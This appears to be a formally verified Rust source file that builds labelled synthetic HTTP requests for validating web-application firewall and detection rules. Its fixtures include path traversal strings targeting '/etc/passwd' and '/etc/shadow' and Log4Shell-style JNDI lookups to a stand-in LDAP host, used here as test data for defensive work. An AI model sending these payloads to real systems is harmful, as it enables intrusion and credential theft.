//! Reproducible synthetic requests for passive validation.
//!
//! A request is made first and written afterwards, so that one request and its ground truth can
//! be compared across telemetry formats.

use crate::text::{
    decimal, opt_text, padded_decimal, padded_text, push_decimal, texts,
};
use vstd::prelude::*;
use vstd::string::*;

verus! {

broadcast use vstd::string::group_string_axioms;

pub const JA4_EXACT: &'static str = "t13d1516h2_8daaf6152771_02713d6af862";

pub const JA4_SHARED: &'static str = "t13d1516h2_111111111111_222222222222";

pub const JA4_COMMON: &'static str = "t13d1516h2_333333333333_444444444444";

pub const JA3: &'static str = "0123456789abcdef0123456789abcdef";

pub const VOLUMETRIC_CONCENTRATION_EVENTS: usize = 40_000;

pub const VOLUMETRIC_CONCENTRATION_SOURCE_IPS: usize = 24_000;

pub const VOLUMETRIC_CONCENTRATION_PATH: &'static str = "/synthetic/volume-target";

pub const VOLUMETRIC_CONCENTRATION_DURATION_MS: i64 = 3_600_000;

/// How many parts an attack rate of one has.
pub const RATE_UNITS: u64 = 9_007_199_254_740_992;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum Profile {
    Deterministic,
    Mutations,
    Large,
    Demo,
    VolumetricConcentration,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum SyntheticFormat {
    AwsWaf,
    NginxCombined,
    ApacheCombined,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub struct GeneratorConfig {
    pub profile: Profile,
    pub events: usize,
    /// The attack rate as parts of `RATE_UNITS`, rounded up.
    pub attack_units: u64,
    pub hosts: usize,
    pub source_ips: usize,
    pub seed: u64,
    pub start_timestamp_ms: i64,
    pub duration_ms: i64,
}

impl Default for GeneratorConfig {
    fn default() -> (r: Self)
        ensures
            r.profile == Profile::Deterministic,
            r.events == 15,
            r.attack_units == 90_071_992_547_410,
            r.hosts == 3,
            r.source_ips == 32,
            r.seed == 42,
            r.start_timestamp_ms == 1_735_689_600_000,
            r.duration_ms == 3_600_000,
    {
        GeneratorConfig {
            profile: Profile::Deterministic,
            events: 15,
            attack_units: 90_071_992_547_410,
            hosts: 3,
            source_ips: 32,
            seed: 42,
            start_timestamp_ms: 1_735_689_600_000,
            duration_ms: 3_600_000,
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum TruthClass {
    Malicious,
    Benign,
    Unknown,
}

#[derive(Clone, Debug)]
pub struct Expected {
    pub class: TruthClass,
    pub cves: Vec<String>,
    pub expected_rule_ids: Vec<String>,
    pub expected_match: bool,
}

#[derive(Clone, Debug)]
pub struct TruthRecord {
    pub event_id: String,
    pub expected: Expected,
}

/// A synthetic request.
#[derive(Clone, Debug)]
pub struct SyntheticEvent {
    pub id: String,
    pub class: TruthClass,
    pub expected_rule_ids: Vec<String>,
    pub path: String,
    pub args: Option<String>,
    pub method: String,
    pub host: String,
    pub headers: Vec<(String, String)>,
    pub ja3: Option<String>,
    pub ja4: Option<String>,
    pub action: String,
    pub labels: Vec<String>,
    pub source_ip: String,
    pub timestamp: i64,
    pub response_status: Option<u16>,
}

pub struct EventModel {
    pub id: Seq<char>,
    pub class: TruthClass,
    pub rules: Seq<Seq<char>>,
    pub path: Seq<char>,
    pub args: Option<Seq<char>>,
    pub method: Seq<char>,
    pub host: Seq<char>,
    pub headers: Seq<(Seq<char>, Seq<char>)>,
    pub ja3: Option<Seq<char>>,
    pub ja4: Option<Seq<char>>,
    pub action: Seq<char>,
    pub labels: Seq<Seq<char>>,
    pub source_ip: Seq<char>,
    pub timestamp: int,
    pub status: Option<u16>,
}

pub open spec fn header_texts(headers: Seq<(String, String)>) -> Seq<(Seq<char>, Seq<char>)> {
    headers.map_values(|h: (String, String)| (h.0@, h.1@))
}

impl View for SyntheticEvent {
    type V = EventModel;

    open spec fn view(&self) -> EventModel {
        EventModel {
            id: self.id@,
            class: self.class,
            rules: texts(self.expected_rule_ids@),
            path: self.path@,
            args: opt_text(self.args),
            method: self.method@,
            host: self.host@,
            headers: header_texts(self.headers@),
            ja3: opt_text(self.ja3),
            ja4: opt_text(self.ja4),
            action: self.action@,
            labels: texts(self.labels@),
            source_ip: self.source_ip@,
            timestamp: self.timestamp as int,
            status: self.response_status,
        }
    }
}

pub open spec fn event_models(events: Seq<SyntheticEvent>) -> Seq<EventModel> {
    events.map_values(|e: SyntheticEvent| e@)
}

pub open spec fn host_and_agent(host: Seq<char>, agent: Seq<char>) -> Seq<(Seq<char>, Seq<char>)> {
    seq![("Host"@, host), ("User-Agent"@, agent)]
}

/// An ordinary synthetic request: the rules that are expected to find it, its path and its
/// arguments.
pub open spec fn ordinary(
    start: int,
    id: nat,
    class: TruthClass,
    rules: Seq<Seq<char>>,
    path: Seq<char>,
    args: Option<Seq<char>>,
) -> EventModel {
    EventModel {
        id: "evt-"@ + padded_decimal(id, 6),
        class,
        rules,
        path,
        args,
        method: "GET"@,
        host: "api.synthetic.test"@,
        headers: host_and_agent("api.synthetic.test"@, "Mozilla/5.0 synthetic"@),
        ja3: Some(JA3@),
        ja4: None,
        action: "ALLOW"@,
        labels: seq![],
        source_ip: "198.51.100."@ + decimal(id % 200 + 1),
        timestamp: start + id * 1000,
        status: None,
    }
}

fn two_headers(host: &str, agent: &str) -> (r: Vec<(String, String)>)
    ensures
        header_texts(r@) == host_and_agent(host@, agent@),
{
    let mut r: Vec<(String, String)> = Vec::new();
    r.push(("Host".to_owned(), host.to_owned()));
    r.push(("User-Agent".to_owned(), agent.to_owned()));
    assert(header_texts(r@) =~= host_and_agent(host@, agent@));
    r
}

pub open spec fn opt_rule(rule: Option<&str>) -> Seq<Seq<char>> {
    match rule {
        Some(r) => seq![r@],
        None => seq![],
    }
}

fn event(
    start: i64,
    id: u64,
    class: TruthClass,
    rule: Option<&str>,
    path: &str,
    args: Option<&str>,
) -> (r: SyntheticEvent)
    requires
        start + id * 1000 <= i64::MAX,
    ensures
        r@ == ordinary(
            start as int,
            id as nat,
            class,
            opt_rule(rule),
            path@,
            crate::event::opt_str(args),
        ),
{
    let mut name = "evt-".to_owned();
    name.append(padded_text(id, 6).as_str());
    let mut rules: Vec<String> = Vec::new();
    if let Some(text) = rule {
        rules.push(text.to_owned());
    }
    assert(texts(rules@) =~= opt_rule(rule));
    let mut source_ip = "198.51.100.".to_owned();
    push_decimal(&mut source_ip, id % 200 + 1);
    let labels: Vec<String> = Vec::new();
    assert(texts(labels@) =~= Seq::<Seq<char>>::empty());
    SyntheticEvent {
        id: name,
        class,
        expected_rule_ids: rules,
        path: path.to_owned(),
        args: match args {
            Some(text) => Some(text.to_owned()),
            None => None,
        },
        method: "GET".to_owned(),
        host: "api.synthetic.test".to_owned(),
        headers: two_headers("api.synthetic.test", "Mozilla/5.0 synthetic"),
        ja3: Some(JA3.to_owned()),
        ja4: None,
        action: "ALLOW".to_owned(),
        labels,
        source_ip,
        timestamp: (start as i128 + id as i128 * 1000) as i64,
        response_status: None,
    }
}

fn push_event(events: &mut Vec<SyntheticEvent>, e: SyntheticEvent)
    ensures
        event_models(final(events)@) == event_models(old(events)@).push(e@),
{
    let ghost before = events@;
    let ghost model = e@;
    events.push(e);
    assert(event_models(events@) =~= event_models(before).push(model));
}

/// A request that no rule is expected to find.
pub open spec fn harmless(start: int, id: nat, path: Seq<char>, args: Option<Seq<char>>) -> EventModel {
    ordinary(start, id, TruthClass::Benign, seq![], path, args)
}

/// A request that one rule is expected to find.
pub open spec fn harmful(
    start: int,
    id: nat,
    rule: Seq<char>,
    path: Seq<char>,
    args: Option<Seq<char>>,
) -> EventModel {
    ordinary(start, id, TruthClass::Malicious, seq![rule], path, args)
}

pub open spec fn with_ja4(e: EventModel, ja4: Seq<char>) -> EventModel {
    EventModel { ja4: Some(ja4), ..e }
}

pub open spec fn with_action(e: EventModel, action: Seq<char>) -> EventModel {
    EventModel { action, ..e }
}

fn benign(start: i64, id: u64, path: &str, args: Option<&str>) -> (r: SyntheticEvent)
    requires
        start + id * 1000 <= i64::MAX,
    ensures
        r@ == harmless(start as int, id as nat, path@, crate::event::opt_str(args)),
{
    event(start, id, TruthClass::Benign, None, path, args)
}

fn malicious(start: i64, id: u64, rule: &str, path: &str, args: Option<&str>) -> (r: SyntheticEvent)
    requires
        start + id * 1000 <= i64::MAX,
    ensures
        r@ == harmful(start as int, id as nat, rule@, path@, crate::event::opt_str(args)),
{
    event(start, id, TruthClass::Malicious, Some(rule), path, args)
}

fn set_ja4(e: SyntheticEvent, ja4: &str) -> (r: SyntheticEvent)
    ensures
        r@ == with_ja4(e@, ja4@),
{
    let mut r = e;
    r.ja4 = Some(ja4.to_owned());
    r
}

fn set_action(e: SyntheticEvent, action: &str) -> (r: SyntheticEvent)
    ensures
        r@ == with_action(e@, action@),
{
    let mut r = e;
    r.action = action.to_owned();
    r
}

pub open spec fn waf_labels() -> Seq<Seq<char>> {
    seq![
        "project:synthetic-malicious"@,
        "awswaf:managed:aws:core-rule-set:GenericRFI_QUERYARGUMENTS"@,
    ]
}

/// The requests of the deterministic profile.
pub open spec fn deterministic_list(s: int) -> Seq<EventModel> {
    seq![
        harmless(s, 1, "/"@, None),
        harmless(s, 2, "/api/users/me"@, Some("expand=profile"@)),
        harmful(s, 3, "test-path-traversal"@, "/download"@, Some("file=../../etc/passwd"@)),
        harmful(
            s,
            4,
            "cve-2021-44228-request-side"@,
            "/lookup"@,
            Some("q=${jndi:ldap://validation.invalid/a}"@),
        ),
        with_ja4(harmful(s, 5, "known-suspicious-ja4"@, "/scan"@, None), JA4_EXACT@),
        with_ja4(harmful(s, 6, "test-ja4-uri"@, "/vulnerable/admin"@, None), JA4_SHARED@),
        with_ja4(harmless(s, 7, "/assets/app.js"@, None), JA4_SHARED@),
        with_ja4(harmless(s, 8, "/vulnerable/admin"@, None), JA4_COMMON@),
        with_ja4(harmless(s, 9, "/vulnerable/admin-docs"@, None), JA4_SHARED@),
        with_action(
            harmful(s, 10, "test-path-traversal"@, "/download"@, Some("file=../../etc/shadow"@)),
            "BLOCK"@,
        ),
        harmful(
            s,
            11,
            "cve-2021-44228-request-side"@,
            "/lookup"@,
            Some("q=${jndi:ldap://validation.invalid/b}"@),
        ),
        (EventModel {
            labels: waf_labels(),
            ..harmful(s, 12, "test-waf-label"@, "/telemetry"@, None)
        }),
        harmless(s, 13, "/favicon.ico"@, None),
        harmless(s, 14, "/vulnerable-docs"@, None),
        (EventModel { method: "POST"@, ..harmless(s, 15, "/api/search"@, Some("q=shoes"@)) }),
    ]
}

/// Whether the times of the first `n` requests can be written.
pub open spec fn times_fit(config: GeneratorConfig, n: int) -> bool {
    config.start_timestamp_ms + n * 1000 <= i64::MAX
}

pub fn deterministic_events(config: &GeneratorConfig) -> (r: Vec<SyntheticEvent>)
    requires
        times_fit(*config, 15),
    ensures
        event_models(r@) == deterministic_list(config.start_timestamp_ms as int),
{
    let s = config.start_timestamp_ms;
    let traversal = "test-path-traversal";
    let lookup = "cve-2021-44228-request-side";
    let mut events: Vec<SyntheticEvent> = Vec::new();
    assert(event_models(events@) =~= Seq::<EventModel>::empty());
    push_event(&mut events, benign(s, 1, "/", None));
    push_event(&mut events, benign(s, 2, "/api/users/me", Some("expand=profile")));
    push_event(
        &mut events,
        malicious(s, 3, traversal, "/download", Some("file=../../etc/passwd")),
    );
    push_event(
        &mut events,
        malicious(s, 4, lookup, "/lookup", Some("q=${jndi:ldap://validation.invalid/a}")),
    );
    push_event(
        &mut events,
        set_ja4(malicious(s, 5, "known-suspicious-ja4", "/scan", None), JA4_EXACT),
    );
    push_event(
        &mut events,
        set_ja4(malicious(s, 6, "test-ja4-uri", "/vulnerable/admin", None), JA4_SHARED),
    );
    push_event(&mut events, set_ja4(benign(s, 7, "/assets/app.js", None), JA4_SHARED));
    push_event(&mut events, set_ja4(benign(s, 8, "/vulnerable/admin", None), JA4_COMMON));
    push_event(&mut events, set_ja4(benign(s, 9, "/vulnerable/admin-docs", None), JA4_SHARED));
    push_event(
        &mut events,
        set_action(
            malicious(s, 10, traversal, "/download", Some("file=../../etc/shadow")),
            "BLOCK",
        ),
    );
    push_event(
        &mut events,
        malicious(s, 11, lookup, "/lookup", Some("q=${jndi:ldap://validation.invalid/b}")),
    );
    let mut labelled = malicious(s, 12, "test-waf-label", "/telemetry", None);
    let mut labels: Vec<String> = Vec::new();
    labels.push("project:synthetic-malicious".to_owned());
    labels.push("awswaf:managed:aws:core-rule-set:GenericRFI_QUERYARGUMENTS".to_owned());
    assert(texts(labels@) =~= waf_labels());
    labelled.labels = labels;
    push_event(&mut events, labelled);
    push_event(&mut events, benign(s, 13, "/favicon.ico", None));
    push_event(&mut events, benign(s, 14, "/vulnerable-docs", None));
    let mut search = benign(s, 15, "/api/search", Some("q=shoes"));
    search.method = "POST".to_owned();
    push_event(&mut events, search);
    assert(event_models(events@) =~= deterministic_list(s as int));
    events
}

/// A request on the host of the demonstration.
pub open spec fn on_demo_host(e: EventModel) -> EventModel {
    EventModel {
        host: "api.demo.example.com"@,
        headers: host_and_agent("api.demo.example.com"@, "Mozilla/5.0 synthetic"@),
        ..e
    }
}

/// A suspicious request that no rule is expected to find.
pub open spec fn suspicious(start: int, id: nat, path: Seq<char>, args: Option<Seq<char>>) -> EventModel {
    ordinary(start, id, TruthClass::Malicious, seq![], path, args)
}

fn demo(start: i64, id: u64, class: TruthClass, path: &str, args: Option<&str>) -> (r:
    SyntheticEvent)
    requires
        start + id * 1000 <= i64::MAX,
    ensures
        r@ == on_demo_host(
            ordinary(
                start as int,
                id as nat,
                class,
                seq![],
                path@,
                crate::event::opt_str(args),
            ),
        ),
{
    let mut r = event(start, id, class, None, path, args);
    r.host = "api.demo.example.com".to_owned();
    r.headers = two_headers("api.demo.example.com", "Mozilla/5.0 synthetic");
    r
}

/// The requests of the demonstration: patterns in the style of vulnerabilities, and near misses
/// that look related. They hold no real target, credential, person or public address.
pub open spec fn demo_list(s: int) -> Seq<EventModel> {
    seq![
        on_demo_host(harmless(s, 1, "/"@, None)),
        on_demo_host(harmless(s, 2, "/api/items"@, Some("limit=10"@))),
        with_ja4(
            on_demo_host(suspicious(s, 3, "/download"@, Some("file=../../etc/passwd"@))),
            JA4_SHARED@,
        ),
        with_ja4(
            on_demo_host(
                suspicious(s, 4, "/lookup"@, Some("q=${jndi:ldap://validation.invalid/demo}"@)),
            ),
            JA4_EXACT@,
        ),
        on_demo_host(suspicious(s, 5, "/vulnerable/admin"@, None)),
        (EventModel {
            headers: host_and_agent("api.demo.example.com"@, "Mozilla/5.0 synthetic"@).push(
                ("X-Demo-Exploit"@, "marker-2099"@),
            ),
            ..on_demo_host(suspicious(s, 6, "/vulnerable/execute"@, Some("cmd=probe"@)))
        }),
        on_demo_host(harmless(s, 7, "/download-docs"@, Some("file=manual.pdf"@))),
        on_demo_host(harmless(s, 8, "/lookup"@, Some("q=hello"@))),
        on_demo_host(harmless(s, 9, "/vulnerable/admin-docs"@, None)),
        on_demo_host(harmless(s, 10, "/vulnerable/execute"@, Some("cmd=probe"@))),
        with_ja4(
            with_action(
                on_demo_host(suspicious(s, 11, "/download"@, Some("file=../../etc/passwd"@))),
                "BLOCK"@,
            ),
            JA4_SHARED@,
        ),
    ]
}

pub fn demo_events(config: &GeneratorConfig) -> (r: Vec<SyntheticEvent>)
    requires
        times_fit(*config, 11),
    ensures
        event_models(r@) == demo_list(config.start_timestamp_ms as int),
{
    let s = config.start_timestamp_ms;
    let fair = TruthClass::Benign;
    let foul = TruthClass::Malicious;
    let passwd = Some("file=../../etc/passwd");
    let mut events: Vec<SyntheticEvent> = Vec::new();
    assert(event_models(events@) =~= Seq::<EventModel>::empty());
    push_event(&mut events, demo(s, 1, fair, "/", None));
    push_event(&mut events, demo(s, 2, fair, "/api/items", Some("limit=10")));
    push_event(&mut events, set_ja4(demo(s, 3, foul, "/download", passwd), JA4_SHARED));
    push_event(
        &mut events,
        set_ja4(
            demo(s, 4, foul, "/lookup", Some("q=${jndi:ldap://validation.invalid/demo}")),
            JA4_EXACT,
        ),
    );
    push_event(&mut events, demo(s, 5, foul, "/vulnerable/admin", None));
    let mut marked = demo(s, 6, foul, "/vulnerable/execute", Some("cmd=probe"));
    let ghost plain = marked.headers@;
    marked.headers.push(("X-Demo-Exploit".to_owned(), "marker-2099".to_owned()));
    assert(header_texts(marked.headers@) =~= header_texts(plain).push(
        ("X-Demo-Exploit"@, "marker-2099"@),
    ));
    push_event(&mut events, marked);
    push_event(&mut events, demo(s, 7, fair, "/download-docs", Some("file=manual.pdf")));
    push_event(&mut events, demo(s, 8, fair, "/lookup", Some("q=hello")));
    push_event(&mut events, demo(s, 9, fair, "/vulnerable/admin-docs", None));
    push_event(&mut events, demo(s, 10, fair, "/vulnerable/execute", Some("cmd=probe")));
    push_event(
        &mut events,
        set_ja4(set_action(demo(s, 11, foul, "/download", passwd), "BLOCK"), JA4_SHARED),
    );
    assert(event_models(events@) =~= demo_list(s as int));
    events
}

/// The requests of the mutation profile.
pub open spec fn mutation_list(s: int) -> Seq<EventModel> {
    seq![
        (EventModel {
            headers: seq![
                ("User-Agent"@, "Mozilla/5.0 synthetic"@),
                ("Host"@, "api.synthetic.test"@),
            ],
            ..harmful(
                s,
                1,
                "cve-2021-44228-request-side"@,
                "/lookup"@,
                Some("x=1&q=${jndi:ldap://validation.invalid/m1}"@),
            )
        }),
        harmful(s, 2, "test-path-traversal"@, "/download"@, Some("x=1&file=../../etc/passwd"@)),
        with_ja4(
            (EventModel {
                headers: seq![("Host"@, "alt.synthetic.test"@)],
                ..harmful(s, 3, "test-ja4-uri"@, "/vulnerable/admin"@, Some("source=mutation"@))
            }),
            JA4_SHARED@,
        ),
        harmless(s, 4, "/download-docs"@, Some("file=manual.pdf"@)),
        harmless(s, 5, "/lookup"@, Some("q=hello"@)),
        with_ja4(harmless(s, 6, "/vulnerable/admin-docs"@, None), JA4_SHARED@),
    ]
}

pub fn mutation_events(config: &GeneratorConfig) -> (r: Vec<SyntheticEvent>)
    requires
        times_fit(*config, 6),
    ensures
        event_models(r@) == mutation_list(config.start_timestamp_ms as int),
{
    let s = config.start_timestamp_ms;
    let mut events: Vec<SyntheticEvent> = Vec::new();
    assert(event_models(events@) =~= Seq::<EventModel>::empty());
    let mut turned = malicious(
        s,
        1,
        "cve-2021-44228-request-side",
        "/lookup",
        Some("x=1&q=${jndi:ldap://validation.invalid/m1}"),
    );
    let mut headers: Vec<(String, String)> = Vec::new();
    headers.push(("User-Agent".to_owned(), "Mozilla/5.0 synthetic".to_owned()));
    headers.push(("Host".to_owned(), "api.synthetic.test".to_owned()));
    assert(header_texts(headers@) =~= seq![
        ("User-Agent"@, "Mozilla/5.0 synthetic"@),
        ("Host"@, "api.synthetic.test"@),
    ]);
    turned.headers = headers;
    push_event(&mut events, turned);
    push_event(
        &mut events,
        malicious(s, 2, "test-path-traversal", "/download", Some("x=1&file=../../etc/passwd")),
    );
    let mut compound = malicious(
        s,
        3,
        "test-ja4-uri",
        "/vulnerable/admin",
        Some("source=mutation"),
    );
    let mut host: Vec<(String, String)> = Vec::new();
    host.push(("Host".to_owned(), "alt.synthetic.test".to_owned()));
    assert(header_texts(host@) =~= seq![("Host"@, "alt.synthetic.test"@)]);
    compound.headers = host;
    push_event(&mut events, set_ja4(compound, JA4_SHARED));
    push_event(&mut events, benign(s, 4, "/download-docs", Some("file=manual.pdf")));
    push_event(&mut events, benign(s, 5, "/lookup", Some("q=hello")));
    push_event(&mut events, set_ja4(benign(s, 6, "/vulnerable/admin-docs", None), JA4_SHARED));
    assert(event_models(events@) =~= mutation_list(s as int));
    events
}

/// The number after another in a linear congruential sequence.
pub open spec fn drawn(state: u64) -> u64 {
    ((state * 6_364_136_223_846_793_005 + 1) % 18_446_744_073_709_551_616) as u64
}

/// A linear congruential generator.
pub struct Lcg {
    state: u64,
}

impl View for Lcg {
    type V = u64;

    closed spec fn view(&self) -> u64 {
        self.state
    }
}

impl Lcg {
    pub fn new(seed: u64) -> (r: Self)
        ensures
            r@ == seed,
    {
        Lcg { state: seed }
    }

    /// Draws the next number.
    pub fn draw(&mut self) -> (r: u64)
        ensures
            r == drawn(old(self)@),
            final(self)@ == r,
    {
        let wide: u128 = self.state as u128 * 6_364_136_223_846_793_005 + 1;
        self.state = (wide % 18_446_744_073_709_551_616) as u64;
        self.state
    }
}

/// The paths of ordinary traffic.
pub open spec fn usual_path(n: u64) -> Seq<char> {
    if n % 8 == 0 {
        "/"@
    } else if n % 8 == 1 {
        "/favicon.ico"@
    } else if n % 8 == 2 {
        "/assets/app.js"@
    } else if n % 8 == 3 {
        "/assets/style.css"@
    } else if n % 8 == 4 {
        "/api/users/me"@
    } else if n % 8 == 5 {
        "/api/products/123"@
    } else if n % 8 == 6 {
        "/health"@
    } else {
        "/robots.txt"@
    }
}

fn usual(n: u64) -> (r: &'static str)
    ensures
        r@ == usual_path(n),
{
    match n % 8 {
        0 => "/",
        1 => "/favicon.ico",
        2 => "/assets/app.js",
        3 => "/assets/style.css",
        4 => "/api/users/me",
        5 => "/api/products/123",
        6 => "/health",
        _ => "/robots.txt",
    }
}

/// A drawn number as a signed one.
pub open spec fn as_signed(n: u64) -> int {
    if n >= 0x8000_0000_0000_0000 {
        n - 0x1_0000_0000_0000_0000
    } else {
        n as int
    }
}

/// The rest of a division that is rounded towards zero.
pub open spec fn signed_rest(n: int, width: int) -> int {
    if n >= 0 {
        n % width
    } else {
        -((-n) % width)
    }
}

/// The width of the time window; at least a millisecond.
pub open spec fn window(config: GeneratorConfig) -> int {
    if config.duration_ms < 1 {
        1
    } else {
        config.duration_ms as int
    }
}

/// A suspicious request of the large profile, by a drawn number.
pub open spec fn large_attack(start: int, id: nat, n: u64) -> EventModel {
    if n % 3 == 0 {
        harmful(start, id, "test-path-traversal"@, "/download"@, Some("file=../../etc/passwd"@))
    } else if n % 3 == 1 {
        harmful(
            start,
            id,
            "cve-2021-44228-request-side"@,
            "/lookup"@,
            Some("q=${jndi:ldap://validation.invalid/large}"@),
        )
    } else {
        with_ja4(harmful(start, id, "test-ja4-uri"@, "/vulnerable/admin"@, None), JA4_SHARED@)
    }
}

/// An ordinary request of the large profile, by four or five drawn numbers.
pub open spec fn large_ordinary(start: int, id: nat, a: u64, b: u64, c: u64, d: u64, e: u64) -> EventModel {
    let plain = harmless(
        start,
        id,
        usual_path(a),
        if c % 3 == 0 {
            Some("page=1&sort=recent"@)
        } else {
            None
        },
    );
    EventModel {
        method: if b % 10 == 0 {
            "POST"@
        } else {
            "GET"@
        },
        ja4: if d % 4 == 0 {
            Some(JA4_SHARED@)
        } else if e % 3 == 0 {
            Some(JA4_COMMON@)
        } else {
            None
        },
        ..plain
    }
}

/// A request of the large profile: the request, and the last number drawn for it. `state` is the
/// last number drawn before.
pub open spec fn large_event(config: GeneratorConfig, id: nat, state: u64) -> (EventModel, u64) {
    let start = config.start_timestamp_ms as int;
    let n1 = drawn(state);
    let n2 = drawn(n1);
    let n3 = drawn(n2);
    let n4 = drawn(n3);
    let n5 = drawn(n4);
    let n6 = drawn(n5);
    let (request, last) = if n1 / 2048 < config.attack_units {
        (large_attack(start, id, n2), n2)
    } else {
        (
            large_ordinary(start, id, n2, n3, n4, n5, n6),
            if n5 % 4 == 0 {
                n5
            } else {
                n6
            },
        )
    };
    let host = drawn(last);
    let source = drawn(host);
    let time = drawn(source);
    (
        EventModel {
            host: "app"@ + decimal((host as int % config.hosts as int + 1) as nat)
                + ".synthetic.test"@,
            source_ip: "203.0.113."@ + decimal(
                (source as int % config.source_ips as int + 1) as nat,
            ),
            timestamp: start + signed_rest(as_signed(time), window(config)),
            ..request
        },
        time,
    )
}

/// The first `n` requests of the large profile, and the last number drawn for them.
pub open spec fn large_list(config: GeneratorConfig, n: nat) -> (Seq<EventModel>, u64)
    decreases n,
{
    if n == 0 {
        (seq![], config.seed)
    } else {
        let (before, state) = large_list(config, (n - 1) as nat);
        let (e, last) = large_event(config, n, state);
        (before.push(e), last)
    }
}

fn as_i64(n: u64) -> (r: i64)
    ensures
        r == as_signed(n),
{
    if n >= 0x8000_0000_0000_0000 {
        (n as i128 - 0x1_0000_0000_0000_0000) as i64
    } else {
        n as i64
    }
}

fn rest_of(n: i64, width: i64) -> (r: i64)
    requires
        width > 0,
    ensures
        r == signed_rest(n as int, width as int),
        -width < r < width,
{
    if n >= 0 {
        proof {
            vstd::arithmetic::div_mod::lemma_mod_bound(n as int, width as int);
        }
        (n as u64 % width as u64) as i64
    } else {
        let magnitude: u64 = (-(n as i128)) as u64;
        proof {
            vstd::arithmetic::div_mod::lemma_mod_bound(magnitude as int, width as int);
        }
        -((magnitude % width as u64) as i64)
    }
}

fn large_request(config: &GeneratorConfig, id: u64, random: &mut Lcg) -> (r: SyntheticEvent)
    requires
        config.start_timestamp_ms + id * 1000 <= i64::MAX,
    ensures
        ({
            let n1 = drawn(old(random)@);
            let n2 = drawn(n1);
            let n5 = drawn(drawn(drawn(n2)));
            let start = config.start_timestamp_ms as int;
            if n1 / 2048 < config.attack_units {
                r@ == large_attack(start, id as nat, n2) && final(random)@ == n2
            } else {
                r@ == large_ordinary(
                    start,
                    id as nat,
                    n2,
                    drawn(n2),
                    drawn(drawn(n2)),
                    n5,
                    drawn(n5),
                ) && final(random)@ == if n5 % 4 == 0 {
                    n5
                } else {
                    drawn(n5)
                }
            }
        }),
{
    let s = config.start_timestamp_ms;
    if random.draw() / 2048 < config.attack_units {
        match random.draw() % 3 {
            0 => malicious(s, id, "test-path-traversal", "/download", Some("file=../../etc/passwd")),
            1 => malicious(
                s,
                id,
                "cve-2021-44228-request-side",
                "/lookup",
                Some("q=${jndi:ldap://validation.invalid/large}"),
            ),
            _ => set_ja4(malicious(s, id, "test-ja4-uri", "/vulnerable/admin", None), JA4_SHARED),
        }
    } else {
        let mut item = benign(s, id, usual(random.draw()), None);
        item.method =
        if random.draw() % 10 == 0 {
            "POST".to_owned()
        } else {
            "GET".to_owned()
        };
        if random.draw() % 3 == 0 {
            item.args = Some("page=1&sort=recent".to_owned());
        }
        if random.draw() % 4 == 0 {
            item.ja4 = Some(JA4_SHARED.to_owned());
        } else if random.draw() % 3 == 0 {
            item.ja4 = Some(JA4_COMMON.to_owned());
        }
        item
    }
}

fn next_large(config: &GeneratorConfig, id: u64, random: &mut Lcg) -> (r: SyntheticEvent)
    requires
        config.hosts > 0,
        config.source_ips > 0,
        config.start_timestamp_ms + id * 1000 <= i64::MAX,
        i64::MIN <= config.start_timestamp_ms - (window(*config) - 1),
        config.start_timestamp_ms + (window(*config) - 1) <= i64::MAX,
    ensures
        r@ == large_event(*config, id as nat, old(random)@).0,
        final(random)@ == large_event(*config, id as nat, old(random)@).1,
{
    let mut r = large_request(config, id, random);
    let mut host = "app".to_owned();
    push_decimal(&mut host, random.draw() % (config.hosts as u64) + 1);
    host.append(".synthetic.test");
    r.host = host;
    let mut source = "203.0.113.".to_owned();
    push_decimal(&mut source, random.draw() % (config.source_ips as u64) + 1);
    r.source_ip = source;
    let width: i64 = if config.duration_ms < 1 {
        1
    } else {
        config.duration_ms
    };
    r.timestamp = config.start_timestamp_ms + rest_of(as_i64(random.draw()), width);
    r
}

/// Whether the requests of the large profile can be written.
pub open spec fn large_fits(config: GeneratorConfig) -> bool {
    &&& config.hosts > 0
    &&& config.source_ips > 0
    &&& times_fit(config, config.events as int)
    &&& i64::MIN <= config.start_timestamp_ms - (window(config) - 1)
    &&& config.start_timestamp_ms + (window(config) - 1) <= i64::MAX
}

pub fn large_events(config: &GeneratorConfig) -> (r: Vec<SyntheticEvent>)
    requires
        large_fits(*config),
    ensures
        event_models(r@) == large_list(*config, config.events as nat).0,
{
    let mut random = Lcg::new(config.seed);
    let mut events: Vec<SyntheticEvent> = Vec::new();
    assert(event_models(events@) =~= Seq::<EventModel>::empty());
    let mut i: usize = 0;
    while i < config.events
        invariant
            large_fits(*config),
            i <= config.events,
            event_models(events@) == large_list(*config, i as nat).0,
            random@ == large_list(*config, i as nat).1,
        decreases config.events - i,
    {
        let e = next_large(config, i as u64 + 1, &mut random);
        push_event(&mut events, e);
        i = i + 1;
    }
    events
}

/// The last two numbers of the address of a busy source. Ten of them come first, spread over
/// seven blocks.
pub open spec fn focus_octets(i: int) -> (int, int) {
    if i < 7 {
        (i, 1)
    } else if i < 10 {
        (i - 7, 2)
    } else if i < 40 {
        ((i - 10) / 10, (i - 10) % 10 + 3)
    } else if i < 84 {
        (3 + (i - 40) / 11, (i - 40) % 11 + 2)
    } else if i < 240 {
        (7 + (i - 84) / 12, (i - 84) % 12 + 1)
    } else {
        (20 + (i - 240) / 11, (i - 240) % 11 + 1)
    }
}

/// No two busy sources have one address.
pub proof fn focus_sources_are_distinct(i: int, j: int)
    requires
        0 <= i < j < 350,
    ensures
        focus_octets(i) != focus_octets(j),
{
}

/// Which busy source makes a request.
pub open spec fn focus_source(k: int) -> int {
    if k < 4000 {
        k / 400
    } else if k < 4360 {
        10 + (k - 4000) / 36
    } else if k < 6600 {
        20 + (k - 4360) / 35
    } else if k < 8280 {
        84 + (k - 6600) / 21
    } else {
        164 + (k - 8280) / 20
    }
}

pub open spec fn benchmark_address(third: int, last: int) -> Seq<char> {
    "198.18."@ + decimal(third as nat) + "."@ + decimal(last as nat)
}

fn benchmark_ip(third: u64, last: u64) -> (r: String)
    ensures
        r@ == benchmark_address(third as int, last as int),
{
    let mut r = "198.18.".to_owned();
    push_decimal(&mut r, third);
    r.append(".");
    push_decimal(&mut r, last);
    r
}

/// The minute of a request: the first five thousand fall into one minute, the others go round
/// the rest of the hour.
pub open spec fn volume_minute(k: int) -> int {
    if k < 5000 {
        30
    } else {
        let n = (k - 5000) % 59;
        if n >= 30 {
            n + 1
        } else {
            n
        }
    }
}

